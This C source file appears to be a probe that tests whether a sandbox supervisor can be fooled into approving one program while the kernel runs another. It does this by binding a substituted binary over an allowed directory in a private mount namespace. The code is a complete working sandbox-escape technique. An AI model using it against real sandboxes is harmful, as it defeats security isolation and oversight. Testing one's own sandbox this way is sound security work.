// nsescape tries to make the supervisor decide one file while the kernel
// runs another, by giving the exec's caller a working directory in a mount
// namespace of the workload's own making:
//
//  1. a helper process makes a user and a mount namespace (no uid map is
//     needed for that), binds a directory holding a copy of PROG named NAME
//     over DIR (a read-only directory of the sandbox that holds an allowed
//     program NAME), and passes a descriptor of DIR back over a socket;
//  2. the caller, still in the sandbox's own namespaces, fchdir()s to that
//     descriptor and runs ./NAME push: its working directory reads "DIR",
//     where the sandbox has the allowed NAME, but the kernel runs PROG.
//
//	nsescape -d DIR -n NAME -p PROG
//
// It also reports, one line each, what the namespace calls themselves say:
//
//	unshare(CLONE_NEWUSER): ok|EPERM...   clone(CLONE_NEWUSER): ...   setns: ...
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static void sendfd(int sock, int fd) {
	char buf[CMSG_SPACE(sizeof(int))] = {0};
	char byte = 'x';
	struct iovec iov = {.iov_base = &byte, .iov_len = 1};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = buf, .msg_controllen = sizeof buf};
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(int));
	sendmsg(sock, &msg, 0);
}

static int recvfd(int sock) {
	char buf[CMSG_SPACE(sizeof(int))] = {0};
	char byte;
	struct iovec iov = {.iov_base = &byte, .iov_len = 1};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = buf, .msg_controllen = sizeof buf};
	if (recvmsg(sock, &msg, 0) <= 0)
		return -1;
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
	if (!c || c->cmsg_type != SCM_RIGHTS)
		return -1;
	int fd;
	memcpy(&fd, CMSG_DATA(c), sizeof(int));
	return fd;
}

static int copy(const char *from, const char *to) {
	int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	struct stat st;
	if (in < 0 || out < 0 || fstat(in, &st) < 0)
		return -1;
	while (st.st_size > 0) {
		ssize_t n = sendfile(out, in, NULL, st.st_size);
		if (n <= 0)
			return -1;
		st.st_size -= n;
	}
	close(in);
	close(out);
	return 0;
}

static void report(const char *what, long r) {
	printf("%s: %s\n", what, r < 0 ? strerror(errno) : "ok");
	fflush(stdout);
}

int main(int argc, char **argv) {
	const char *dir = NULL, *name = NULL, *prog = NULL;
	int opt;
	while ((opt = getopt(argc, argv, "d:n:p:")) != -1) {
		switch (opt) {
		case 'd': dir = optarg; break;
		case 'n': name = optarg; break;
		case 'p': prog = optarg; break;
		default: return 2;
		}
	}
	if (!dir || !name || !prog) {
		fprintf(stderr, "usage: nsescape -d DIR -n NAME -p PROG\n");
		return 2;
	}
	// What the namespace calls say, each in a throwaway child.
	pid_t c = fork();
	if (c == 0)
		_exit(unshare(CLONE_NEWUSER) < 0 ? errno : 0);
	int st;
	waitpid(c, &st, 0);
	errno = WEXITSTATUS(st);
	report("unshare(CLONE_NEWUSER)", errno ? -1 : 0);
	long r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
	if (r == 0)
		_exit(0);
	if (r > 0)
		waitpid(r, NULL, 0);
	report("clone(CLONE_NEWUSER)", r);
	int self = open("/proc/self/ns/user", O_RDONLY);
	report("setns", setns(self, 0));

	char evil[] = "nsescape.XXXXXX", path[4096];
	if (!mkdtemp(evil)) {
		perror("mkdtemp");
		return 2;
	}
	snprintf(path, sizeof path, "%s/%s", evil, name);
	if (copy(prog, path) < 0) {
		perror(path);
		return 2;
	}
	int sv[2];
	socketpair(AF_UNIX, SOCK_STREAM, 0, sv);
	pid_t helper = fork();
	if (helper == 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
			printf("helper: unshare: %s\n", strerror(errno));
			fflush(stdout);
			_exit(1);
		}
		// Without a uid map no file can be created in the new namespace:
		// bind a directory made beforehand, holding PROG as NAME, over DIR.
		if (mount(evil, dir, NULL, MS_BIND, NULL) < 0) {
			printf("helper: mount or copy: %s\n", strerror(errno));
			fflush(stdout);
			_exit(1);
		}
		int d = open(dir, O_PATH | O_DIRECTORY);
		sendfd(sv[1], d);
		pause();
		_exit(0);
	}
	close(sv[1]);
	int d = recvfd(sv[0]);
	if (d < 0) {
		kill(helper, SIGKILL);
		waitpid(helper, NULL, 0);
		printf("no foreign directory: the attack could not be set up\n");
		return 0;
	}
	if (fchdir(d) < 0) {
		printf("fchdir: %s\n", strerror(errno));
		return 0;
	}
	char exe[4096];
	snprintf(exe, sizeof exe, "./%s", name);
	char *args[] = {exe, "push", NULL};
	pid_t caller = fork();
	if (caller == 0) {
		execve(exe, args, environ);
		printf("exec: %s\n", strerror(errno));
		_exit(1);
	}
	waitpid(caller, &st, 0);
	kill(helper, SIGKILL);
	waitpid(helper, NULL, 0);
	return 0;
}
